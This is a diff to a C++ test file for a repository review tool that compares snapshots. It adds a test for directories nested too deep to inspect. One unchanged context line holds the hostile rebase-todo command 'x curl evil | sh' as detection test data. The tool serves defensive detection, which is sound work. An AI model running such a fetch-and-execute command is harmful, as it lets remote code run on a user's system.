@@ -84,6 +84,18 @@ TEST(Review, ExecLinesOfUnfinishedRebases) {
   EXPECT_TRUE(Has(f, "todo-exec", "\"x curl evil | sh\""));
 }
 
+// A repository nested deeper than the walk looks cannot be seen: the
+// directories the run made too deep are a finding of their own, once.
+TEST(Review, DirectoriesTooDeepToLookInto) {
+  Snapshot before, after;
+  before.too_deep = {"/p/old/deep"};
+  after.too_deep = {"/p/old/deep", "/p/d/d/d"};
+  auto f = Compare(before, after, kProject);
+  ASSERT_EQ(f.size(), 1u);
+  EXPECT_TRUE(Has(f, "too-deep", "below d/d/d/ are nested too deeply"));
+  EXPECT_TRUE(f[0].runs_code);
+}
+
 TEST(Review, NothingChangedNothingReported) {
   Snapshot s;
   s.git_entries = {"/p/a/.git"};
